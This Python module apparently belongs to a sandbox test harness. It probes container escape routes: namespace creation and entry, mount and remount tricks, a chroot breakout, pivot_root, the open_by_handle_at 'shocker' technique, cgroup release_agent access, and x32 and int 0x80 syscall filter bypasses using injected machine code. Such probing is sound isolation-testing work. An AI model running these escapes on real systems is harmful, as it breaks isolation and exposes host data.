"""Mounts, roots and namespaces: how one leaves a container that is not closed."""

from __future__ import annotations

import ctypes
import os
import struct
from functools import partial

from .kit import ARM, Facts, Report, call, in_child, libc, program, read

NEWNS, NEWUSER = 0x00020000, 0x10000000
KINDS = {
    "mnt": NEWNS,
    "cgroup": 0x02000000,
    "uts": 0x04000000,
    "ipc": 0x08000000,
    "pid": 0x20000000,
    "net": 0x40000000,
    "time": 0x00000080,
}
SCRATCH = "/tmp/escape"


def _reach(report: Report, facts: Facts) -> None:
    """After whatever was gained: the host's secret, by its path."""
    for path in (facts["secret"], "/proc/1/root" + facts["secret"], SCRATCH + facts["secret"]):
        try:
            report.saw(read(path).decode("latin-1"))
        except OSError:
            continue


@program
def user_namespace(report: Report, facts: Facts) -> None:
    """Become root in a user namespace of one's own, mount there, and look for the host."""

    def go() -> None:
        call("unshare", NEWUSER | NEWNS)
        _mount_all(facts)

    report.attempt("unshare", lambda: in_child(go))
    flags = NEWUSER | 17  # SIGCHLD
    report.attempt("clone", lambda: _cloned(lambda: call("clone", flags, 0, 0, 0, 0)))
    about = struct.pack("QQQQQQQQ", NEWUSER, 0, 0, 0, 17, 0, 0, 0)
    report.attempt("clone3", lambda: _cloned(lambda: call("clone3", about, len(about))))
    _reach(report, facts)
    if os.path.isdir(SCRATCH):
        os.rmdir(SCRATCH)


def _cloned(start: object) -> None:
    assert callable(start)
    pid = start()
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)


def _mount_all(facts: Facts) -> None:
    os.makedirs(SCRATCH, exist_ok=True)
    call("mount", b"none", SCRATCH.encode(), b"tmpfs", 0, None)


@program
def other_namespaces(report: Report, facts: Facts) -> None:
    """Make namespaces of every other kind without a user namespace."""
    for name, flag in KINDS.items():
        report.attempt(name, lambda flag=flag: in_child(lambda: call("unshare", flag)))  # type: ignore[misc]


@program
def enter_namespaces(report: Report, facts: Facts) -> None:
    """Enter the namespaces of every process that can be seen, and of the host's by number."""
    for pid in (1, os.getppid(), int(facts["bystander"]), int(facts["harness"])):
        for name in ("mnt", "pid", "net", "user", "ipc", "uts"):

            def enter(pid: int = pid, name: str = name) -> None:
                handle = os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY)
                call("setns", handle, 0)
                _reach(report, facts)

            report.attempt(f"{pid if pid == 1 else 'other'} {name}", lambda: in_child(enter))


@program
def mounts(report: Report, facts: Facts) -> None:
    """Mount memory, /proc, the host's disk, and folders over others."""
    os.makedirs(SCRATCH, exist_ok=True)
    here = SCRATCH.encode()
    report.attempt("tmpfs", lambda: call("mount", b"none", here, b"tmpfs", 0, None))
    report.attempt("proc", lambda: call("mount", b"proc", here, b"proc", 0, None))
    report.attempt("bind", lambda: call("mount", b"/etc", here, None, 4096, None))
    report.attempt("sysfs", lambda: call("mount", b"none", here, b"sysfs", 0, None))
    report.attempt("overlay", lambda: call("mount", b"o", here, b"overlay", 0, b"lowerdir=/usr:/etc"))
    _reach(report, facts)


@program
def new_mounts(report: Report, facts: Facts) -> None:
    """The same by the newer calls, which older filters do not know."""

    def made() -> None:
        handle = call("fsopen", b"tmpfs", 0)
        call("fsconfig", handle, 6, None, None, 0)
        call("fsmount", handle, 0, 0)

    report.attempt("fsopen", made)
    report.attempt("open_tree", lambda: call("open_tree", -100, b"/usr", 1))
    about = struct.pack("QQQQ", 0, 1, 0, 0)
    report.attempt("mount_setattr", lambda: call("mount_setattr", -100, b"/", 0, about, 32))


@program
def writable_again(report: Report, facts: Facts) -> None:
    """Make what is shown read-only writable again, and write to it."""
    for path in ("/", "/usr", "/etc", "/opt/upbench", "/opt/toolbox", "/job/inputs", "/proc"):
        if os.path.isdir(path):
            remount_bind = 32 | 4096
            report.attempt(path, partial(call, "mount", None, path.encode(), None, remount_bind, None))


@program
def uncover(report: Report, facts: Facts) -> None:
    """Take mounts away, to see what lies below them."""
    for path in ("/job/inputs", "/proc", "/tmp", "/dev/shm", "/usr", "/etc", "/"):
        report.attempt(path, lambda path=path: in_child(lambda: call("umount2", path.encode(), 2)))  # type: ignore[misc]
    _reach(report, facts)


@program
def chroots(report: Report, facts: Facts) -> None:
    """The classic way out: a root below the working folder, then `..` many times."""

    def go() -> None:
        os.makedirs(SCRATCH, exist_ok=True)
        handle = os.open("/", os.O_RDONLY)
        os.chroot(SCRATCH)
        os.fchdir(handle)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        _reach(report, facts)

    report.attempt("chroot", lambda: in_child(go))


@program
def pivot(report: Report, facts: Facts) -> None:
    """Exchange the root for another folder."""

    def go() -> None:
        os.makedirs(SCRATCH + "/old", exist_ok=True)
        if facts.get("control"):
            call("mount", b"none", SCRATCH.encode(), b"tmpfs", 0, None)
            os.mkdir(SCRATCH + "/old")
        call("pivot_root", SCRATCH.encode(), (SCRATCH + "/old").encode())

    report.attempt("pivot_root", lambda: in_child(go))


@program
def handles(report: Report, facts: Facts) -> None:
    """Open the host's files by their handles (inode numbers), which no mount hides: the `shocker` way."""
    for path in ("/job", "/etc", "/tmp"):
        # Of the folder itself where it can be named, else of the root of an ext4: inode 2.
        box = ctypes.create_string_buffer(struct.pack("Ii", 120, 0) + bytes(120), 128)
        try:
            call("name_to_handle_at", -100, path.encode(), box, ctypes.byref(ctypes.c_int()), 0)
        except OSError:
            box = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, 2, 0) + bytes(112), 128)

        def go(path: str = path, box: object = box) -> None:
            handle = call("open_by_handle_at", os.open(path, os.O_RDONLY), box, os.O_RDONLY)
            report.saw(" ".join(os.listdir(handle)))

        report.attempt(f"open at {path}", go)


@program
def cgroup_release(report: Report, facts: Facts) -> None:
    """Mount the cgroups in namespaces of one's own and name a program for the kernel to start on the host."""

    def go() -> None:
        if not facts.get("control"):
            call("unshare", NEWUSER | NEWNS | 0x02000000)
        os.makedirs(SCRATCH, exist_ok=True)
        for kind, options in ((b"cgroup", b"memory"), (b"cgroup2", None)):
            try:
                call("mount", b"none", SCRATCH.encode(), kind, 0, options)
                break
            except OSError:
                continue
        else:
            raise PermissionError(1, "no cgroups")
        # Opened, not written: this file is the host's.
        os.close(os.open(SCRATCH + "/cgroup.procs", os.O_WRONLY))

    report.attempt("mount and open", lambda: in_child(go))
    for folder in ("/sys/fs/cgroup", "/sys/fs/cgroup/memory"):
        path = folder + "/release_agent"
        report.attempt(path, lambda path=path: os.close(os.open(path, os.O_WRONLY)))  # type: ignore[misc]
        path = folder + "/cgroup.procs"
        report.attempt(path, lambda path=path: os.close(os.open(path, os.O_WRONLY)))  # type: ignore[misc]


@program
def old_calls(report: Report, facts: Facts) -> None:
    """Unshare by the 32-bit and x32 entry points, which a filter that looks at numbers alone lets pass."""
    if ARM:
        report.refused["other entry points"] = "ENOSYS"
        return

    def x32() -> None:
        ctypes.set_errno(0)
        if libc.syscall(ctypes.c_long(0x40000000 | 272), ctypes.c_long(NEWUSER)) == -1:
            raise OSError(ctypes.get_errno(), "x32")

    report.attempt("x32", lambda: in_child(x32))
    report.attempt("int 0x80", lambda: in_child(lambda: _by_interrupt(310, NEWUSER)))


def _by_interrupt(number: int, argument: int) -> None:
    """A 32-bit system call: push rbx; mov eax, number; mov ebx, argument; int 0x80; pop rbx; ret."""
    import mmap

    code = b"\x53\xb8" + struct.pack("<I", number) + b"\xbb" + struct.pack("<I", argument) + b"\xcd\x80\x5b\xc3"
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    result = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
    if result < 0:
        raise OSError(-result, "int 0x80")
